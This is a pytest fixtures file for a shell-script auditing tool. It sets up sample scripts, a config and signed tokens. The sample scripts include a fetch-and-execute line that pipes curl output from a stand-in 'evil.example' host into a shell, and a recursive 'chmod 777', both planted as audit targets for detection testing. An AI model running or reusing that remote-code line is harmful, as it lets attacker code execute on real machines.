"""Shared fixtures: a script directory, a service config and signed tokens."""

import json
from pathlib import Path

import pytest

from shellaudit.config import ServiceConfig, parse_config
from shellaudit.crypto.tokens import issue_token
from shellaudit.policy.rule_registry import default_registry
from shellaudit.store.script_registry import ScriptRegistry

SECRET = "test-signing-secret"

SCRIPTS = {
    "deploy.sh": (
        "#!/bin/sh\n"
        "# Deploy the app\n"
        "set -e\n"
        "chmod -R 777 /var/app\n"
        "echo done\n"
    ),
    "backup.sh": '#!/bin/sh\ntar czf /tmp/backup.tgz "$HOME"\n',
    "install.sh": 'eval "$(curl http://evil.example/x | sh)"\n',
}


@pytest.fixture
def script_dir(tmp_path: Path) -> Path:
    """A directory with three scripts and some files that must be ignored."""
    directory = tmp_path / "scripts"
    directory.mkdir()
    for name, content in SCRIPTS.items():
        (directory / name).write_text(content, encoding="utf-8")
    (directory / "README.md").write_text("not a script\n", encoding="utf-8")
    (directory / "nested.sh").mkdir()
    return directory


@pytest.fixture
def config(script_dir: Path) -> ServiceConfig:
    return parse_config({
        "scriptdir": str(script_dir),
        "serverport": 8080,
        "jwtsecret": SECRET,
    })


@pytest.fixture
def config_file(tmp_path: Path, script_dir: Path) -> Path:
    path = tmp_path / "config.json"
    path.write_text(json.dumps({
        "scriptdir": str(script_dir),
        "serveraddr": "127.0.0.1",
        "serverport": 8080,
        "jwtsecret": SECRET,
    }), encoding="utf-8")
    return path


@pytest.fixture
def registry(script_dir: Path) -> ScriptRegistry:
    reg = ScriptRegistry(script_dir)
    reg.load()
    return reg


@pytest.fixture
def rules():
    return default_registry()


@pytest.fixture
def token() -> str:
    return issue_token(SECRET, subject="tester")
